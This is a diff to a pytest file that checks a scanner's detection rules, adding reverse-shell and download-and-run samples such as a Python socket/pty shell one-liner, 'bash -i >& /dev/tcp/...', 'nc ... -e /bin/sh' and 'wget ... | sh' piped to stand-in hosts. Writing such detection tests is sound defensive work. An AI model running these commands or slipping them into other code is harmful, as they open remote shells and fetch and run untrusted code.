@@ -63,6 +63,16 @@ def test_the_test_string_inside_other_content_is_no_test_file(analyze):
         ("PowerShell_Hidden_Encoded_Command", b"powershell -w hidden -c calc"),
         ("Unix_Reverse_Shell", b"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
         ("Unix_Reverse_Shell", b"nc 192.0.2.1 4444 -e /bin/sh"),
+        (
+            "Unix_Reverse_Shell",
+            b"s=socket.socket();s.connect(a);os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
+        ),
+        (
+            "Shell_Download_And_Run",
+            b"#!/bin/sh\n"
+            + b"# a licence\n" * 400
+            + b"wget -qO- http://e.example|sh\n",
+        ),
         ("Shell_Download_And_Run", b"curl -s https://e.example/i.sh | sudo bash"),
         (
             "Windows_Script_Downloader",
@@ -105,6 +115,9 @@ def test_each_rule_finds_what_it_is_for(analyze, rule: str, data: bytes):
         b"a text about /S /Launch" + bytes(1024) + b"%PDF-",
         b"\x7fELF" + bytes(100),
         b"MZ" + bytes(200),
+        b"To install it, run curl https://e.example/i.sh | sh\n"
+        + b"It is good.\n" * 400,
+        b"conn = socket.socket()\nos.dup2(conn.fileno(), 7)\n",
     ],
 )
 def test_honest_content_matches_nothing(analyze, data: bytes):
